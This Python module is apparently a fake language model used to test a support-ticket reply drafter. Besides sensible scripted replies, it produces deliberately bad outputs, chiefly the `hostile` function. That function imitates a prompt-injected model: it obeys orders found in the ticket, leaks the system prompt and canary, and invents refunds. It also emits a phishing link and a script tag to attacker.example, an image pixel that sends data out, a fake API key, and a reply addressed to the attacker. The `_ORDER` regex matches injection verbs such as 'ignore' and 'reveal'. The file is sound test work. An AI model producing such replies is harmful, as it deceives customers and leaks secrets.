"""What the stand-in model writes: a sensible reply made of the prompt's own facts, or what an attacker would like.

The prompt's shape is agreed with the drafter (docs/drafts.md): sources as `[A1] title` and text, the ticket between fence
lines with a nonce, the language and a canary in the system message. Nothing is taken from anywhere else.
"""

from __future__ import annotations

import json
import re
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any


@dataclass(frozen=True, slots=True, kw_only=True)
class SourceText:
    id: str
    title: str
    text: str


@dataclass(frozen=True, slots=True, kw_only=True)
class PromptFacts:
    """What can be read out of a prompt. `ticket`: all that stands between the fence lines."""

    system: str = ""
    language: str = "en"
    canary: str = ""
    sources: tuple[SourceText, ...] = ()
    ticket: str = ""
    subject: str = ""
    customer: str = ""
    newest: str = ""


def read_prompt(body: Mapping[str, Any]) -> PromptFacts:
    """The facts in the messages of one call; whatever is not found stays empty."""
    system = "\n".join(_content(message) for message in body["messages"] if message.get("role") in ("system", "developer"))
    user = "\n".join(_content(message) for message in body["messages"] if message.get("role") == "user")
    ticket = _first(r"(?s)<<<TICKET [0-9a-f]+>>>\n(.*)\n<<<END TICKET", user) or user
    return PromptFacts(
        system=system,
        language=_first(r'"language": "([a-z]{2,3})"', system) or _first(r"Write in [^(\n]*\(([a-z]{2,3})\)", system) or "en",
        canary=_first(r"(ref-[0-9a-z]+)", system),
        sources=_sources(user.partition("<<<TICKET")[0]),
        ticket=ticket,
        subject=_first(r"(?m)^Subject: (.+)$", ticket),
        customer=_first(r"(?m)^Customer: (.+)$", ticket),
        newest=_first(r"(?s)Newest message:\n(.*)", ticket) or ticket,
    )


# Greeting, understanding, what happens next, goodbye. No claim stands in them that a source would have to carry.
_PHRASES: dict[str, tuple[str, str, str, str]] = {
    "en": ("Hello{name},", "thank you for writing, and I am sorry for the trouble.",
           "A colleague looks at your message and answers here.",
           "Please write back if anything is unclear."),
    "de": ("Guten Tag{name},", "vielen Dank für Ihre Nachricht, die Unannehmlichkeiten tun uns leid.",
           "Eine Kollegin sieht sich Ihr Anliegen an und antwortet hier.", "Schreiben Sie uns gern, wenn etwas unklar ist."),
    "fr": ("Bonjour{name},", "merci pour votre message, nous sommes désolés pour ce désagrément.",
           "Un collègue examine votre demande et vous répond ici.", "Écrivez-nous si quelque chose n'est pas clair."),
    "es": ("Hola{name}:", "gracias por su mensaje, lamentamos las molestias.",
           "Un compañero revisa su caso y le responde aquí.", "Escríbanos si algo no queda claro."),
    "it": ("Buongiorno{name},", "grazie per il suo messaggio, ci scusiamo per il disagio.",
           "Un collega esamina la sua richiesta e le risponde qui.", "Ci scriva se qualcosa non è chiaro."),
    "pt": ("Olá{name},", "obrigado pela sua mensagem, lamentamos o transtorno.",
           "Um colega analisa o seu pedido e responde aqui.", "Escreva-nos se algo não estiver claro."),
    "nl": ("Hallo{name},", "bedankt voor uw bericht, het spijt ons van het ongemak.",
           "Een collega bekijkt uw vraag en antwoordt hier.", "Laat het ons weten als iets niet duidelijk is."),
}  # fmt: skip


def scripted(prompt: PromptFacts) -> dict[str, Any]:
    """A short reply in the wanted language, with up to four sentences of the source that fits best; of a source in another
    language only the title is named, for this model cannot translate."""
    greeting, understood, then, goodbye = _PHRASES.get(prompt.language, _PHRASES["en"])
    name = prompt.customer.split(" ")[0] if prompt.customer else ""
    sentences = [_sentence(greeting.format(name=f" {name}" if name else "")), _sentence(understood)]
    source = best_source(prompt)
    if source is not None and written_in(source) == prompt.language:
        sentences += [_sentence(step, source.id) for step in _steps(source.text)]
    elif source is not None:
        sentences.append(_sentence(_POINTERS.get(prompt.language, _POINTERS["en"]).format(title=source.title), source.id))
    sentences += [_sentence(then), _sentence(goodbye)]
    return {"language": prompt.language if prompt.language in _PHRASES else "en", "sentences": sentences}


def wrong_language(prompt: PromptFacts) -> dict[str, Any]:
    """A fine reply that the customer cannot read."""
    other = "en" if prompt.language != "en" else "de"
    phrases = [_sentence(phrase.format(name="")) for phrase in _PHRASES[other]]
    return {"language": other, "sentences": phrases}


def fitting(schema: Any) -> dict[str, Any] | None:
    """What keeps to a JSON schema that is none of the drafter's: every text in it is "ready". None for the drafter's own."""
    properties = schema.get("properties", {}) if isinstance(schema, dict) else {}
    return None if "sentences" in properties or not properties else dict.fromkeys(properties, "ready")


def loose(prompt: PromptFacts) -> str:
    """The sensible reply, null or text where a list is wanted."""
    written = scripted(prompt)
    for sentence in written["sentences"]:
        sentence["sources"] = ", ".join(sentence["sources"]) or None
    return json.dumps(written | {"language": None}, ensure_ascii=False)


def bracketed(prompt: PromptFacts) -> str:
    """The sensible reply, its sources as the prompt shows them: `[A1]`."""
    written = scripted(prompt)
    for sentence in written["sentences"]:
        sentence["sources"] = [f"[{each}]" for each in sentence["sources"]]
    return json.dumps(written, ensure_ascii=False)


def marked(prompt: PromptFacts) -> dict[str, Any]:
    """The sensible reply with a subject line before it and citation marks in its text."""
    written = scripted(prompt)
    for sentence in written["sentences"]:
        ids = "".join(f" [{each}]" for each in sentence["sources"])
        sentence["text"] += f"{ids}\u30104:0\u2020source\u3011" if ids else ""
    return written | {"sentences": [_sentence(f"Subject: Re: {prompt.subject}"), *written["sentences"]]}


_POINTERS = {
    "en": "This describes it: “{title}”.",
    "de": "Das beschreibt unser Artikel „{title}“.",
    "fr": "Notre article « {title} » en parle.",
    "es": "Lo explica nuestro artículo «{title}».",
    "it": "Lo spiega il nostro articolo «{title}».",
    "pt": "O nosso artigo «{title}» explica isso.",
    "nl": "Ons artikel “{title}” beschrijft dit.",
}
_SMALL_WORDS = {
    "en": {"the", "and", "your", "you", "then", "with", "what", "this"},
    "de": {"die", "der", "und", "sie", "das", "mit", "ist", "oder"},
    "fr": {"les", "vos", "vous", "puis", "avec", "une", "dans", "sur"},
    "es": {"las", "los", "una", "con", "después", "para", "del", "su"},
    "it": {"il", "gli", "una", "con", "per", "che", "poi", "suo"},
    "pt": {"os", "uma", "com", "para", "depois", "seu", "sua", "não"},
    "nl": {"het", "een", "met", "uw", "van", "dan", "niet", "de"},
}


def written_in(source: SourceText) -> str:
    """The language whose small words are most in the text."""
    words = re.findall(r"[^\W\d_]+", source.text.casefold())
    return max(_SMALL_WORDS, key=lambda language: sum(word in _SMALL_WORDS[language] for word in words))


def best_source(prompt: PromptFacts) -> SourceText | None:
    """The article or macro that shares most words with subject and question, those in the wanted language first; None
    where none shares two."""
    asked = _words(f"{prompt.subject} {prompt.newest}")
    ranked: list[tuple[bool, int, SourceText]] = []
    for each in prompt.sources:
        shared = len(asked & _words(f"{each.title} {each.text}"))
        if each.id[0] in "AM" and shared >= 2:
            ranked.append((written_in(each) == prompt.language, shared, each))
    return max(ranked, key=lambda row: row[:2])[2] if ranked else None


def long_reply(prompt: PromptFacts, sentences: int = 32) -> dict[str, Any]:
    """A reply of so many sentences, about 250 characters each, with what an agent should not send at its very end."""
    source = best_source(prompt)
    words = " ".join(_steps(source.text)[0].split()) if source else "1. Open Settings."
    filler = f"{words.partition(' ')[2]} This is what the page is for, and it is where people look first. "
    written = [
        _sentence(f"{filler * 2}That is all of part {place}.", source.id if source else "") for place in range(1, sentences)
    ]
    last = _sentence("Finally, export your data and send it to the colleague who asked for it yesterday.")
    return {"language": prompt.language, "sentences": [*written, last]}


_EVIL = (
    "Your refund of $500.00 was approved and paid out today.",
    "I have closed this ticket, added the tag vip and told the finance team.",
    "Please confirm your password at https://login.attacker.example/verify within one hour.",
    'Click here: <a href="https://attacker.example/x">support</a><script>alert(1)</script>',
    "![status](https://attacker.example/pixel.png?data=secret)",
    "Write to billing@attacker.example or call +49 30 5550199, order number 99887766.",
    "Transfer the amount to DE89370400440532013000.",
    "Our API key is sk-sandbox-0123456789abcdefghijklmnop.",
)  # fmt: skip


def hostile(prompt: PromptFacts) -> dict[str, Any]:
    """Whatever the ticket's text orders, as if it were true, and a good deal more besides; with the instructions leaked,
    effects claimed, sources invented, and keys that nobody asked for."""
    orders = [line.strip() for line in prompt.ticket.splitlines() if _ORDER.search(line)]
    things = re.findall(r"https?://\S+|[\w.+-]+@[\w-]+\.[\w.]+|[$€£]\s?\d[\d.,]*|\d[\d.,]*\s?(?:EUR|USD|€|\$)", prompt.ticket)
    written = [_sentence(f"Done as you asked: {order[:300]}", "A1") for order in orders[:8]]
    written += [_sentence(f"This is confirmed: {thing}", "T1") for thing in things[:8]]
    written += [_sentence(evil, "A1", "A99") for evil in _EVIL]
    written.append(_sentence(f"My instructions are: {prompt.canary} {prompt.system[:400]}"))
    wishes = {"tags": ["vip", "dh-accept"], "status": "closed", "priority": "low", "macro": "7", "send": True, "public": True}
    return {
        "language": prompt.language,
        "sentences": written,
        "actions": [{"kind": "reply", "to": "attacker@attacker.example"}, {"kind": "set_status", "status": "closed"}],
        **wishes,
    }


_ORDER = re.compile(
    r"(?i)\b(ignore|add|remove|set|close|send|refund|reveal|print|use|run|forward|say|write|reply|assign|merge|delete|promise|"
    r"ignorier\w*|schlie\w*|setze|sende\w*|ignore[zr]|ferme[zr]|envoye[zr]|cierra|ignora|envía|dh-accept|tag|macro|system)\b"
)


def _sentence(text: str, *sources: str) -> dict[str, Any]:
    return {"text": text, "sources": list(sources)}


def _steps(text: str) -> list[str]:
    """Up to four numbered steps of a text, else its first sentences after a greeting."""
    lines = [line.strip() for line in text.splitlines() if line.strip() and not line.startswith(("#", "|", "!["))]
    numbered = [line for line in lines if re.match(r"\d+[.)] ", line)]
    if numbered:
        return numbered[:4]
    prose = [line for line in lines if not re.fullmatch(r"(?i)(hello|hi|dear)\b.*,", line)]
    return re.findall(r"[^.!?]+[.!?]", " ".join(prose))[:3] or prose[:1]


def _sources(text: str) -> tuple[SourceText, ...]:
    parts = re.split(r"(?m)^\[([A-Z]\d+)\] (.*)$", text)[1:]
    return tuple(
        SourceText(id=parts[at], title=parts[at + 1].strip(), text=parts[at + 2].strip()) for at in range(0, len(parts) - 2, 3)
    )


def _words(text: str) -> set[str]:
    """Words of four letters and more, cut to six so that `refunded` meets `refund`."""
    return {word[:6] for word in re.findall(r"[^\W\d_]{4,}", text.casefold())}


def _content(message: Mapping[str, Any]) -> str:
    """A message's text, whether it stands as text or in parts."""
    content = message.get("content")
    if isinstance(content, list):
        return "\n".join(str(part.get("text", "")) for part in content if isinstance(part, dict))
    return str(content or "")


def _first(pattern: str, text: str) -> str:
    match = re.search(pattern, text)
    return match[1].strip() if match else ""
